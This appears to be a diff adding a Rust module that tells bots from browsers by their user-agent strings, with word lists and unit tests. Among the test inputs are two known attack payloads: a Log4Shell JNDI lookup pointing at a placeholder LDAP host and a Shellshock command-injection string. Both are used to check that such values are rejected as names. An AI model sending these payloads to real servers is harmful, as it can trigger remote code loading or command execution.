@@ -1,0 +1,289 @@
+//! Tells a program by what it does not say: it names no browser, and no system that browsers run on.
+
+use std::sync::LazyLock;
+
+use aho_corasick::AhoCorasick;
+
+use super::declared::any_of;
+
+/// What is said by browsers, by programs that people hold in their hands, and by the systems that these run on.
+static PEOPLES: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    const WORDS: [&str; 99] = [
+        "Opera",
+        "AppleWebKit",
+        "Gecko",
+        "Browser",
+        "Android",
+        "Dalvik",
+        "iOS",
+        "iPhone",
+        "iPad",
+        "CFNetwork",
+        "Darwin",
+        "Mac OS",
+        "Macintosh",
+        "watchOS",
+        "tvOS",
+        "Windows",
+        "Win64",
+        "MIDP",
+        "CLDC",
+        "UCWEB",
+        "UP.Link",
+        "Nokia",
+        "Samsung",
+        "SonyEricsson",
+        "BlackBerry",
+        "Huawei",
+        "LG-",
+        "LG/",
+        "MAUI",
+        "HbbTV",
+        "SmartTV",
+        "Roku",
+        "Tizen",
+        "Web0S",
+        "PlayStation",
+        "Nintendo",
+        "Links",
+        "Lynx",
+        "w3m",
+        "Dillo",
+        "VLC",
+        "Player",
+        "Radio",
+        "Podcast",
+        "OS X",
+        "MacOS",
+        "Amiga",
+        "Symbian",
+        "BSD;",
+        "Vita",
+        "Alamofire",
+        "Chrome/",
+        "Firefox",
+        "Midori",
+        "NetSurf",
+        "Kazehakase",
+        "edbrowse",
+        "amaya",
+        "Eudora",
+        "Barca",
+        "portalmmm",
+        "Arachne",
+        "AWeb",
+        "Charon",
+        "Contiki",
+        "Cyberdog",
+        "Emacs",
+        "Explorer",
+        "FOMA",
+        "Foxmail",
+        "Galaxy",
+        "HotJava",
+        "IBrowse",
+        "iCab",
+        "iTunes",
+        "KreaTV",
+        "luakit",
+        "Minefield",
+        "Mosaic",
+        "Motorola",
+        "NetFront",
+        "Obigo",
+        "OmniWeb",
+        "OPR/",
+        "Outlook",
+        "PocoMail",
+        "Polycom",
+        "QuickTime",
+        "Shiira",
+        "Sleipnir",
+        "Teleca",
+        "The Bat",
+        "Thunderbird",
+        "Toolbar",
+        "uzbl",
+        "Vimprobable",
+        "Win32",
+        "X-Smiles",
+        "ZTE",
+    ];
+    any_of(&WORDS)
+});
+
+/// What else browsers have said behind `Mozilla/`, since the first.
+static SYSTEMS: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    const WORDS: [&str; 37] = [
+        "Mozilla",
+        "Win",
+        "X11",
+        "Linux",
+        "Unix",
+        "BSD",
+        "SunOS",
+        "IRIX",
+        "AIX",
+        "HP-UX",
+        "OS/2",
+        "Mac",
+        "PPC",
+        "BeOS",
+        "Haiku",
+        "RISC",
+        "QNX",
+        "MSIE",
+        "KHTML",
+        "Konqueror",
+        "Safari",
+        "Presto",
+        "Trident",
+        "WebTV",
+        "Palm",
+        "DreamPassport",
+        "DDIPOCKET",
+        "Solaris",
+        "BREW",
+        "Polaris",
+        "DTV",
+        "AOLTV",
+        "Dreamcast",
+        "Planetweb",
+        "WebKit",
+        "Ubuntu",
+        "Tablet",
+    ];
+    any_of(&WORDS)
+});
+
+/// What programs do that fetch pages for nobody.
+static WORK: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    const WORDS: [&str; 18] = [
+        "check", "valid", "monitor", "search", "fetch", "link", "url", "seo", "scan", "harvest",
+        "collect", "extract", "index", "survey", "probe", "analy", "grab", "feed",
+    ];
+    any_of(&WORDS)
+});
+
+/// The word by which a user agent gives itself away that names no browser, no system and nothing else that
+/// people use: a mail address, a domain, what such programs do, or else what it calls itself. `None` for all
+/// others, and for what is no name: an attack, a number, a few letters.
+pub(super) fn program_word(user_agent: &str) -> Option<&str> {
+    let (is_mozilla, user_agent) = without_mozilla(user_agent);
+    if PEOPLES.is_match(user_agent) || is_mozilla && SYSTEMS.is_match(user_agent) {
+        return None;
+    }
+    let apart = |c: char| c.is_whitespace() || matches!(c, '(' | ')' | ';' | ',' | '"' | '<' | '>');
+    let word = |text: &str| is_domain(text) || text.contains('@') || WORK.is_match(text);
+    let words = || user_agent.split(apart);
+    words().find(|text| word(text)).or_else(|| words().next().filter(|_| is_name(user_agent)))
+}
+
+/// The rest of what begins like nearly all browsers, behind `Mozilla/5.0 (compatible; `; and whether it did.
+fn without_mozilla(user_agent: &str) -> (bool, &str) {
+    let Some(rest) = user_agent.strip_prefix("Mozilla/") else { return (false, user_agent) };
+    let rest = rest.trim_start_matches(|c: char| !c.is_ascii_alphabetic());
+    let named = ["compatible", "Compatible"].iter().find_map(|word| rest.strip_prefix(word));
+    (true, named.map_or(rest, |name| name.trim_start_matches(|c: char| !c.is_ascii_alphanumeric())))
+}
+
+/// Whether a text is what a program may call itself: letters above all, and nothing that attacks are made of.
+fn is_name(text: &str) -> bool {
+    const LETTERS_MIN: usize = 3;
+    const MARKS: &str = " .,:;-_/+&!'()[]#@%*~=";
+    let is_of_names = |c: char| c.is_ascii_alphanumeric() || MARKS.contains(c);
+    let letters = text.chars().take_while(|c| *c != '/').filter(char::is_ascii_alphabetic).count();
+    // Whoever sends a header's name in the header has copied it, as people do too.
+    let is_header = text.split_once(": ").is_some();
+    text.starts_with(|c: char| c.is_ascii_alphanumeric())
+        && letters >= LETTERS_MIN
+        && !is_header
+        && text.chars().all(is_of_names)
+}
+
+/// What a program calls itself, given the word by which it gave itself away: that word, without its version, or
+/// where that is an address, the product at the front or before the address. `None` where it has no name.
+pub(super) fn own_name<'t>(user_agent: &'t str, word: &'t str) -> Option<&'t str> {
+    let is_address = |text: &str| text.contains("://") || text.contains('@') || is_domain(text);
+    let product = |text: &'t str| {
+        let name = text.split('/').next()?.trim_matches(|c: char| !c.is_ascii_alphanumeric());
+        let is_browsers = PEOPLES.is_match(text) || SYSTEMS.is_match(text) || name == "compatible";
+        (name.contains(|c: char| c.is_ascii_alphabetic()) && !is_browsers).then_some(name)
+    };
+    if !is_address(word) {
+        return product(word);
+    }
+    let apart = |c: char| c.is_whitespace() || matches!(c, '(' | ')' | ';' | ',' | '"' | '[' | ']');
+    let before = user_agent.find(word).map_or(user_agent, |at| &user_agent[..at]);
+    let (is_mozilla, _) = without_mozilla(user_agent);
+    let mut products = before.split(apart).filter(|text| !text.is_empty() && !is_address(text));
+    if is_mozilla { product(products.next_back()?) } else { product(products.next()?) }
+}
+
+/// `example.com`, `www.example.com/bot`: of versions and files' names the last part is no letters, or stands
+/// behind a digit.
+pub(super) fn is_domain(word: &str) -> bool {
+    let name = word.split(['/', ':']).next().unwrap_or(word);
+    let Some((before, last)) = name.rsplit_once('.') else { return false };
+    let letters = |text: &str| text.chars().all(|c| c.is_ascii_alphabetic());
+    (2..=12).contains(&last.len())
+        && letters(last)
+        && before.len() > 1
+        && before.contains(|c: char| c.is_ascii_alphabetic())
+        && before.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::declared::declared;
+    use super::*;
+
+    #[test]
+    fn programs_without_a_bots_word() {
+        for (user_agent, word) in [
+            ("thing.example.com", Some("thing.example.com")),
+            ("My Thing (me@thing.example)", Some("me@thing.example")),
+            ("Link Valet Online 1.1", Some("Link")),
+            ("SiteMonitor/2 linux", Some("SiteMonitor/2")),
+            ("thing/1.0", Some("thing/1.0")),
+            ("Some thing 1.0.beta", Some("Some")),
+            ("ab", None),
+            ("${jndi:ldap://192.0.2.1/a}", None),
+            ("() { :;}; echo x", None),
+            ("Accept-Encoding: gzip, deflate", None),
+            ("192", None),
+            ("Some Browser 2", None),
+            ("Mozilla/5.0 (Some check)", Some("check")),
+            ("Mozilla/3.0 (Compatible;Thing/1.8)", Some("Thing/1.8")),
+            ("Mozilla/5.0", None),
+            ("Mozilla/4.7 [en] (WinNT; I)", None),
+            ("Mozilla/3.04 (X11; I; SunOS 5.5.1 sun4u)", None),
+            ("Mozilla/3.0 (DreamPassport/3.0)", None),
+            ("Mozilla/5.0 (search.example)", Some("search.example")),
+            ("Weather/1.0 (example.com) CFNetwork/1410.0.3 Darwin/22.6.0", None),
+            ("Search/7.1 (Android 14; Pixel 8)", None),
+            ("VLC/3.0.18 LibVLC/3.0.18", None),
+        ] {
+            assert_eq!(program_word(user_agent), word, "{user_agent}");
+        }
+    }
+
+    #[test]
+    fn what_it_calls_itself() {
+        for (user_agent, name) in [
+            ("ExampleBot/1.0", Some("ExampleBot")),
+            ("Mozilla/5.0 (compatible; Thing/1.0; +https://thing.example)", Some("Thing")),
+            ("Mozilla/5.0 (X11; Linux) Safari/537.36 (https://thing.example)", None),
+            (
+                "Mozilla/5.0 (X11; Linux) Safari/537.36 Thing/2 (+https://thing.example)",
+                Some("Thing"),
+            ),
+            ("reader/2.0 (https://reader.example)", Some("reader")),
+            ("Some thing 1.0 (me@thing.example)", Some("Some")),
+            ("thing.example.com", None),
+        ] {
+            let word = declared(user_agent).or_else(|| program_word(user_agent)).unwrap();
+            assert_eq!(own_name(user_agent, word), name, "{user_agent}");
+        }
+    }
+}
